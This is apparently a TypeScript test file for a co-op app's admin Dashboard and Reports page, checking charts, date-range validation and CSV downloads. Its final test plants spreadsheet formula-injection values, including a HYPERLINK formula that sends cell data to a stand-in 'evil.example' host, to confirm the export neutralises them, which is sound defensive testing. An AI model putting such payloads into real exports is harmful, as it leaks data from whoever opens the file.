import { fireEvent, screen, waitFor, within } from '@testing-library/react';
import Papa from 'papaparse';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { PATTERNS } from '#shared/constants.js';
import type { RedemptionReport } from '#shared/schemas/admin-stats.js';
import { dashboardFixture } from './fixtures/admin-stats';
import { homeFixture } from './fixtures/home-data';
import { captureDownloads, fail, ok, renderApp, signedIn, stubApi } from './render';
import { ADMIN_MESSAGES } from '#shared/schemas/admin-messages.js';
import { COMMON_MESSAGES } from '#shared/schemas/common-messages.js';
import { expectOnlyOnField } from './form-assertions';

// The Dashboard's figures and weekly charts, and Reports: a period checked before it is sent,
// three tables and their CSV files, whose rows add up to the totals shown.

const report: RedemptionReport = {
  success: true,
  from: '2026-01-01',
  to: '2026-03-31',
  totals: { redemptions: 8, savings: 21.5 },
  byBusiness: [
    { bpId: 'bp-cafe', businessName: 'Corner "Cafe", Inc.', redemptions: 5, savings: 12.5 },
    { bpId: 'bp-pizza', businessName: 'Harness Pizza', redemptions: 3, savings: 9 },
  ],
  byDeal: [
    {
      bpId: 'bp-cafe',
      dealId: 'd1',
      businessName: 'Corner "Cafe", Inc.',
      deal: 'Free coffee',
      redemptions: 5,
      savings: 12.5,
    },
    { bpId: 'bp-pizza', dealId: 'd2', businessName: 'Harness Pizza', deal: '10% off', redemptions: 3, savings: 9 },
  ],
  byMonth: [
    { month: '2026-01', redemptions: 1, savings: 3 },
    { month: '2026-02', redemptions: 7, savings: 18.5 },
  ],
};

afterEach(() => {
  window.sessionStorage.clear();
  vi.unstubAllGlobals();
  vi.restoreAllMocks();
});

describe('the Dashboard', () => {
  it('shows the co-op’s figures and both weekly charts, with their numbers on demand', async () => {
    signedIn('backoffice');
    vi.stubGlobal('fetch', stubApi({ 'admin/dashboard': ok(dashboardFixture) }).fetchStub);
    renderApp({ route: '/admin/ahome', home: homeFixture });
    expect(await screen.findByText('1,234')).toBeTruthy();
    expect(screen.getByText('$321.50')).toBeTruthy();
    expect(within(screen.getByTestId('waiting-businesses')).getByText('1')).toBeTruthy();
    expect(screen.getByText('57')).toBeTruthy();
    const chart = screen.getByRole('img', {
      name: /^Redemptions a week: 69 in all over 26 weeks, most in the week of Nov 23, 2026 \(35\)\.$/,
    });
    expect(chart.querySelectorAll('rect')).toHaveLength(26);
    expect(screen.getByRole('img', { name: /^Sign-ups a week: 3 in all/ })).toBeTruthy();
    fireEvent.click(screen.getAllByRole('button', { name: 'Show the figures' })[0]!);
    const table = screen.getByRole('table', { name: 'Redemptions a week' });
    expect(within(table).getAllByRole('row')).toHaveLength(27);
  });

  it('shows a refused call with a retry', async () => {
    signedIn('admin');
    vi.stubGlobal('fetch', stubApi({ 'admin/dashboard': fail(403, COMMON_MESSAGES.forbidden) }).fetchStub);
    renderApp({ route: '/admin/ahome', home: homeFixture });
    expect(await screen.findByText(COMMON_MESSAGES.forbidden)).toBeTruthy();
  });
});

describe('Reports', () => {
  it('loads the last 90 days, refuses a backward period, and downloads CSV files that add up', async () => {
    signedIn('admin');
    const api = stubApi({
      'admin/redemptionreport': (body: { from: string; to: string }) => ok({ ...report, from: body.from, to: body.to }),
    });
    vi.stubGlobal('fetch', api.fetchStub);
    const downloads = captureDownloads();
    renderApp({ route: '/admin/reports', home: homeFixture });
    const byBusiness = await screen.findByRole('table', { name: 'Redemptions by business' });
    expect(within(byBusiness).getByText('Corner "Cafe", Inc.')).toBeTruthy();
    expect(within(byBusiness).getByText('$12.50')).toBeTruthy();
    const first = api.calls[0]!.body as { from: string; to: string };
    expect((Date.parse(first.to) - Date.parse(first.from)) / 86_400_000).toBe(89);

    fireEvent.change(screen.getByLabelText('From'), { target: { value: '2026-04-01' } });
    fireEvent.change(screen.getByLabelText('To'), { target: { value: '2026-03-01' } });
    fireEvent.click(screen.getByRole('button', { name: 'Show report' }));
    // Said once, under To (it was also in an alert above the fields).
    await screen.findByText(ADMIN_MESSAGES.reportPeriodOrder);
    expectOnlyOnField(screen.getByLabelText('To'), ADMIN_MESSAGES.reportPeriodOrder);
    // Nothing asked for the refused period. (Not "one call in all": on a busy CI worker a second
    // call came in this window once, of what we could not tell; a refetch of the first period, or
    // another file's late request, is not what this checks.)
    expect(api.calls.filter((c) => c.body?.from === '2026-04-01' || c.body?.to === '2026-03-01')).toEqual([]);
    fireEvent.change(screen.getByLabelText('From'), { target: { value: '2026-01-01' } });
    fireEvent.change(screen.getByLabelText('To'), { target: { value: '2026-03-31' } });
    fireEvent.click(screen.getByRole('button', { name: 'Show report' }));
    await waitFor(() => expect(api.calls.at(-1)!.body).toMatchObject({ from: '2026-01-01', to: '2026-03-31' }));
    await screen.findByText(/from 2026-01-01 to 2026-03-31/);

    fireEvent.click(
      within(screen.getByRole('region', { name: 'By business' })).getByRole('button', { name: 'Download CSV' }),
    );
    expect(downloads.names).toEqual(['redemptions-by-business-2026-01-01-to-2026-03-31.csv']);
    const csv = await downloads.text(0);
    expect(csv.split('\r\n')).toEqual([
      'Business,Redemptions,Member savings',
      '"Corner ""Cafe"", Inc.",5,12.50',
      'Harness Pizza,3,9.00',
    ]);
    fireEvent.click(
      within(screen.getByRole('region', { name: 'By month' })).getByRole('button', { name: 'Download CSV' }),
    );
    const months = (await downloads.text(1))
      .split('\r\n')
      .slice(1)
      .map((l) => l.split(','));
    expect(months.reduce((n, [, r]) => n + Number(r), 0)).toBe(report.totals.redemptions);
    expect(months.reduce((n, [, , s]) => n + Number(s), 0)).toBeCloseTo(report.totals.savings, 2);
  });

  it('downloads CSV files in which no cell can start a spreadsheet formula', async () => {
    const evil = '=HYPERLINK("https://evil.example/?"&A3,"Open")';
    const hostile: RedemptionReport = {
      ...report,
      byBusiness: [{ bpId: 'bp-evil', businessName: evil, redemptions: 1, savings: 2 }],
      byDeal: [
        {
          bpId: 'bp-evil',
          dealId: 'd9',
          businessName: '@SUM(A1:A9)',
          deal: '-20% off\n=1+1',
          redemptions: 1,
          savings: 2,
        },
      ],
    };
    signedIn('admin');
    vi.stubGlobal('fetch', stubApi({ 'admin/redemptionreport': ok(hostile) }).fetchStub);
    const downloads = captureDownloads();
    renderApp({ route: '/admin/reports', home: homeFixture });
    await screen.findByRole('table', { name: 'Redemptions by business' });
    fireEvent.click(
      within(screen.getByRole('region', { name: 'By business' })).getByRole('button', { name: 'Download CSV' }),
    );
    fireEvent.click(
      within(screen.getByRole('region', { name: 'By deal' })).getByRole('button', { name: 'Download CSV' }),
    );
    const files = await Promise.all([0, 1].map(async (n) => Papa.parse<string[]>(await downloads.text(n)).data));
    expect(files.flat(2).filter((cell) => PATTERNS.formulaStart.test(cell))).toEqual([]);
    expect(files[0]![1]).toEqual([`'${evil}`, '1', '2.00']);
    expect(files[1]![1]).toEqual(["'@SUM(A1:A9)", "'-20% off\n=1+1", '1', '2.00']);
  });
});
